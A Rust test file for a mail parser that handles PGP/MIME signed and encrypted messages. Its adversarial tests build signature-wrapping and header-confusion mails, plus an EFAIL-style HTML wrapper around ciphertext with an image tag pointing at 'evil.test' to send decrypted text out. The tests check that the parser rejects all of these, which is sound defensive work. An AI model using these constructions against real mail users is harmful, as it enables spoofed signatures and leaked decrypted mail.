use super::Shape;
use crate::mail::{Matter, Place, canonical, parse, parse_payload};

const SEAL: &str = "-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----";
const WORDS: &str = "Content-Type: text/plain; charset=utf-8\r\n\r\n/close\r\n";

fn signed_with(kind: &str, parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--b\r\n{part}\r\n")).collect();
    format!("From: val@example.org\r\nContent-Type: {kind}\r\n\r\n{parts}--b--\r\n")
}

fn seal() -> String {
    format!("Content-Type: application/pgp-signature\r\n\r\n{SEAL}")
}

const SIGNED: &str =
    "multipart/signed; micalg=pgp-sha512; protocol=\"application/pgp-signature\"; boundary=b";

fn shape(mail: &str) -> Shape {
    parse(mail.as_bytes()).expect("a mail").shape()
}

#[test]
fn a_signed_mail_is_cut_exactly() {
    let Shape::Signed { signed, signature } = shape(&signed_with(SIGNED, &[WORDS, &seal()])) else {
        panic!("a signed mail")
    };
    assert_eq!(String::from_utf8_lossy(&signed), WORDS);
    assert_eq!(String::from_utf8_lossy(&signature), SEAL);
}

/// A reading of RFC 2046 section 5.1.1 that shares no code with the parser.
fn split(mail: &str, boundary: &str) -> Option<Vec<u8>> {
    let open = format!("\r\n--{boundary}");
    let at_line = |from: usize| -> Option<(usize, usize)> {
        let mut from = from;
        loop {
            let at = from + mail.get(from..)?.find(&open)?;
            let rest = mail.get(at + open.len()..)?;
            let end = rest.find("\r\n").unwrap_or(rest.len());
            let tail = rest.get(..end)?;
            if tail.trim_matches([' ', '\t']).is_empty() || tail.starts_with("--") {
                return Some((at, at + open.len() + end + 2));
            }
            from = at + 2;
        }
    };
    let (_, start) = at_line(0)?;
    let (end, _) = at_line(start - 2)?;
    Some(mail.get(start..end)?.as_bytes().to_vec())
}

#[test]
fn an_independent_splitter_cuts_the_same_bytes() {
    let bodies = [
        "",
        "x",
        "x\r\n",
        "\r\n",
        "\r\n\r\n",
        "x\r\n\r\n",
        "-- \r\nFay",
        "--bX\r\n",
        "hello --b world",
        "hello --b--\r\nhidden",
        "-b\r\n--",
        "--",
        "a\r\n--B\r\nb",
        "tab\t\r\n \r\n",
        "x --b",
        "\t--b\r\nx",
        "=2D-b\r\n",
        "line\r\n--c\r\nother\r\n--c--\r\n",
        ".\r\n..\r\n",
        "From me\r\n",
        "-\r\n--\r\n---\r\n",
        "0123456789--b0123456789",
        "--b1--",
        "\r\n--bb--\r\n",
        "é ü\r\n",
        "a  \r\n  b  \r\n",
        "--b-\r\nx",
    ];
    for body in bodies {
        for head in [
            "Content-Type: text/plain\r\n\r\n",
            "content-type:  text/plain;\r\n charset=utf-8\r\n\r\n",
        ] {
            for tail in ["", " ", "\t "] {
                let mail = signed_with(SIGNED, &[&format!("{head}{body}"), &seal()]);
                let mail = mail.replacen("\r\n--b\r\n", &format!("\r\n--b{tail}\r\n"), 1);
                let expected = split(&mail, "b").expect("parts");
                let Shape::Signed { signed, .. } = shape(&mail) else { panic!("{body:?} {mail}") };
                assert_eq!(signed, expected, "{body:?}");
                let stored = mail.replace("\r\n", "\n");
                let Shape::Signed { signed, .. } = shape(&stored) else { panic!("{body:?}") };
                assert_eq!(signed, expected, "stored with LF: {body:?}");
            }
        }
    }
}

proptest::proptest! {
    #[test]
    fn any_body_is_cut_like_the_independent_splitter_does(body in "[-b\r\n x=]{0,60}") {
        let body = String::from_utf8(canonical(body.replace('\r', "").as_bytes()).into_owned())
            .expect("ascii");
        let mail = signed_with(SIGNED, &[&format!("Content-Type: text/plain\r\n\r\n\
            {body}"), &seal()]);
        if let Shape::Signed { signed, .. } = shape(&mail) {
            proptest::prop_assert_eq!(Some(signed), split(&mail, "b"));
        }
    }

    #[test]
    fn no_bytes_stop_the_parser(bytes in proptest::collection::vec(0_u8..=255, 0..400)) {
        for head in ["", "Content-Type: multipart/mixed; boundary=\"-\"\n\n---\n", "From: a@b\n"] {
            let bytes = [head.as_bytes(), &bytes].concat();
            if let Ok(entity) = parse(&bytes) {
                let (mail, content) = (entity.mail(), entity.content());
                let shown = mail.subject + &content.text;
                let control = |c: char| c.is_control() && c != '\n' && c != '\t';
                proptest::prop_assert!(!shown.chars().any(control));
            }
        }
    }
}

#[test]
fn eve_wraps_a_signed_part_and_it_counts_for_nothing() {
    // S1, S2: the signature is below the root.
    let inner = format!(
        "Content-Type: {}\r\n\r\n--i\r\n{WORDS}\r\n--i\r\n{}\r\n--i--",
        SIGNED.replace("=b", "=i"),
        seal()
    );
    let front = "Content-Type: text/plain\r\n\r\n/severity low\r\n";
    for kind in [
        "multipart/mixed; boundary=b",
        "multipart/related; boundary=b",
        "multipart/alternative; boundary=b",
    ] {
        for parts in [[front, inner.as_str()], [inner.as_str(), front]] {
            let mail = signed_with(kind, &parts);
            assert_eq!(shape(&mail), Shape::Plain);
            let content = parse(mail.as_bytes()).expect("a mail").content();
            assert!(content.not_for_orders.is_some());
            assert!(content.pieces.iter().all(|piece| piece.place == Place::Part));
        }
    }
}

#[test]
fn eve_adds_words_around_a_signed_part() {
    // S3: preamble and epilogue are never read; a third part ends the matter.
    let mail = signed_with(SIGNED, &[WORDS, &seal()]);
    let framed =
        mail.replacen("\r\n\r\n--b", "\r\n\r\n/siren approve\r\n--b", 1) + "/siren approve\r\n";
    let Shape::Signed { signed, .. } = shape(&framed) else { panic!("a signed mail") };
    assert_eq!(String::from_utf8_lossy(&signed), WORDS);
    let content = parse(framed.as_bytes()).expect("a mail").content();
    assert_eq!(content.text, "/close\n");
    let third = signed_with(SIGNED, &[WORDS, &seal(), WORDS]);
    assert_eq!(shape(&third), Shape::Plain);
}

#[test]
fn eve_makes_type_and_protocol_disagree() {
    // S4, S5, S9, J5, J9.
    let wrong = "Content-Type: text/plain\r\n\r\nAAAA";
    let smime = "Content-Type: application/pkcs7-signature\r\n\r\nAAAA";
    let commit = "tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\r\nauthor Val \
        <val@example.org>\r\n\r\nclose 7\r\n";
    let two_types = "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nx";
    let p = "protocol=\"application/pgp-signature\"";
    let kinds = [
        SIGNED.replace("pgp-signature", "pkcs7-signature"),
        format!("{SIGNED}; {p}"),
        format!("{SIGNED}; protocol=x"),
        format!("{SIGNED}; boundary=c"),
        format!("multipart/signed; {p}; boundary*0=b"),
        format!("multipart/signed; {p}; boundary*=utf-8''b"),
        "multipart/signed; boundary=b".to_owned(),
        format!("multipart/mixed; {p}; boundary=b"),
        format!("{SIGNED}\r\nContent-Type: {SIGNED}"),
        format!("{SIGNED}\r\nContent-Type : text/plain"),
        format!("{SIGNED}\r\nContent-Transfer-Encoding: base64"),
        format!("{SIGNED}\r\nContent-Transfer-Encoding: x-other"),
    ];
    for kind in kinds {
        assert_eq!(shape(&signed_with(&kind, &[WORDS, &seal()])), Shape::Plain, "{kind}");
    }
    for parts in [
        vec![WORDS, wrong],
        vec![WORDS, smime],
        vec![WORDS],
        vec![],
        vec![commit, &seal()],
        vec![two_types, &seal()],
    ] {
        assert_eq!(shape(&signed_with(SIGNED, &parts)), Shape::Plain, "{parts:?}");
    }
    let cased = SIGNED.replace("application/pgp", "Application/PGP");
    assert!(matches!(shape(&signed_with(&cased, &[WORDS, &seal()])), Shape::Signed { .. }));
}

#[test]
fn eve_damages_the_structure() {
    // J6, and a mail cut short.
    let whole = signed_with(SIGNED, &[WORDS, &seal()]);
    let cut = whole.trim_end().trim_end_matches("--b--");
    assert_eq!(shape(cut), Shape::Plain);
    let mid = "From: a@b.example\r\nContent-Type: multipart/signed; \
        protocol=\"application/pgp-signature\"; boundary=b\r\n\r\nx --b\r\nContent-Type: \
            text/plain\r\n\r\nx\r\n";
    assert_eq!(shape(mid), Shape::Plain);
}

#[test]
fn eve_mixes_line_ends() {
    // J7: only a store that keeps LF alone is undone.
    let part = |body: &str| format!("Content-Type: text/plain\r\n\r\n{body}");
    for body in ["hel\rlo\r\n", "one\ntwo\r\n", "xx\r\r\n", "a\0b\r\n"] {
        let Shape::Signed { signed, .. } = shape(&signed_with(SIGNED, &[&part(body), &seal()]))
        else {
            panic!("{body:?}")
        };
        assert_eq!(String::from_utf8_lossy(&signed), part(body), "as it came");
    }
}

#[test]
fn a_signature_in_a_passed_on_mail_is_not_the_senders() {
    // S7
    let inner = signed_with(SIGNED, &[WORDS, &seal()]).replace("=b", "=i").replace("--b", "--i");
    let mail = signed_with(
        "multipart/mixed; boundary=b",
        &[&format!("Content-Type: message/rfc822\r\n\r\n{inner}")],
    );
    let entity = parse(mail.as_bytes()).expect("a mail");
    assert_eq!(entity.shape(), Shape::Plain);
    let content = entity.content();
    let [piece] = content.pieces.as_slice() else { panic!("one piece") };
    assert!(piece.forwarded && matches!(piece.matter, Matter::Signed { .. }));
    assert!(
        content.text.contains("A mail from val@example.org is passed on")
            && content.text.contains("/close")
    );
    assert_eq!(content.not_for_orders, Some("It passes on another mail."));
}

#[test]
fn a_list_footer_makes_a_signed_mail_partly_signed() {
    // S8
    let inner = format!(
        "Content-Type: {}\r\n\r\n--i\r\n{WORDS}\r\n--i\r\n{}\r\n--i--",
        SIGNED.replace("=b", "=i"),
        seal()
    );
    let footer = "Content-Type: text/plain\r\n\r\n___\r\nlist footer\r\n";
    let entity = signed_with("multipart/mixed; boundary=b", &[&inner, footer]);
    let entity = parse(entity.as_bytes()).expect("a mail");
    assert_eq!(entity.shape(), Shape::Plain);
    let content = entity.content();
    assert_eq!(content.text, "/close\n\n___\nlist footer\n");
    let [piece] = content.pieces.as_slice() else { panic!("one piece") };
    let Matter::Signed { signed, .. } = &piece.matter else { panic!("signed") };
    assert_eq!(String::from_utf8_lossy(signed), WORDS);
}

#[test]
fn a_payload_without_a_type_is_never_read_as_headers() {
    // S9
    let commit = b"From: val@example.org\nSubject: [SIRT-2026-0007]\n\n/close\n";
    let entity = parse_payload(commit).expect("a payload");
    assert_eq!(entity.mail().from, []);
    assert!(entity.protected().is_none());
    let content = entity.content();
    assert_eq!(content.text.as_bytes(), commit);
    assert!(content.not_for_orders.is_some());
}

const CIPHER: &str = "-----BEGIN PGP MESSAGE-----\r\n\r\nAAAA\r\n-----END PGP MESSAGE-----";

#[test]
fn encrypted_mail_is_known_in_its_forms() {
    let control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1";
    let data =
        format!("Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n{CIPHER}");
    let blank = "Content-Type: text/plain; charset=utf-8\r\n\r\n\r\n";
    let kind = "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b";
    let coded = "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: \
        quoted-printable\r\n\r\n\
        -----BEGIN PGP MESSAGE-----\r\n\r\nAA=41A\r\n-----END PGP MESSAGE-----";
    for (kind, parts) in [
        (kind, vec![control, &data]),
        (kind, vec![control, coded]),
        ("multipart/encrypted; boundary=b", vec![control, &data]),
        ("multipart/mixed; boundary=b", vec![blank, control, &data]),
    ] {
        let mail = signed_with(kind, &parts);
        let Shape::Encrypted { ciphertext } = shape(&mail) else { panic!("{kind} {parts:?}") };
        assert_eq!(String::from_utf8_lossy(&ciphertext), CIPHER);
        let content = parse(mail.as_bytes()).expect("a mail").content();
        assert_eq!((content.pieces.len(), content.not_for_orders), (0, Some("It is encrypted.")));
    }
    let words = "Content-Type: text/plain\r\n\r\nwords";
    for (kind, parts) in [
        (kind, vec![control]),
        (kind, vec![data.as_str(), control]),
        (kind, vec![control, &data, words]),
        (kind, vec![words, &data]),
        (SIGNED, vec![control, &data]),
        (
            "multipart/encrypted; protocol=\"application/pkcs7-mime\"; boundary=b",
            vec![control, &data],
        ),
        ("multipart/mixed; boundary=b", vec![words, control, &data]),
        ("multipart/mixed; boundary=b", vec![blank, control, &data, words]),
    ] {
        assert_eq!(shape(&signed_with(kind, &parts)), Shape::Plain, "{kind} {parts:?}");
    }
}

#[test]
fn eve_wraps_a_ciphertext_in_html() {
    // C1: three parts, the ciphertext in the middle; nothing joins them.
    let control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1";
    let data = format!("Content-Type: application/octet-stream\r\n\r\n{CIPHER}");
    let inner = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=i\r\n\
            \r\n--i\r\n{control}\r\n--i\r\n{data}\r\n--i--"
    );
    let before = "Content-Type: text/html\r\n\r\n<img src='http://evil.test/";
    let after = "Content-Type: text/html\r\n\r\n'>";
    let mail = signed_with("multipart/mixed; boundary=b", &[before, &inner, after]);
    let entity = parse(mail.as_bytes()).expect("a mail");
    assert_eq!(entity.shape(), Shape::Plain);
    let content = entity.content();
    let [piece] = content.pieces.as_slice() else { panic!("one piece") };
    assert!(matches!(&piece.matter, Matter::EncryptedEntity(bytes) if bytes == CIPHER.as_bytes()));
    assert!(!content.text.contains("evil.test"), "{}", content.text);
}
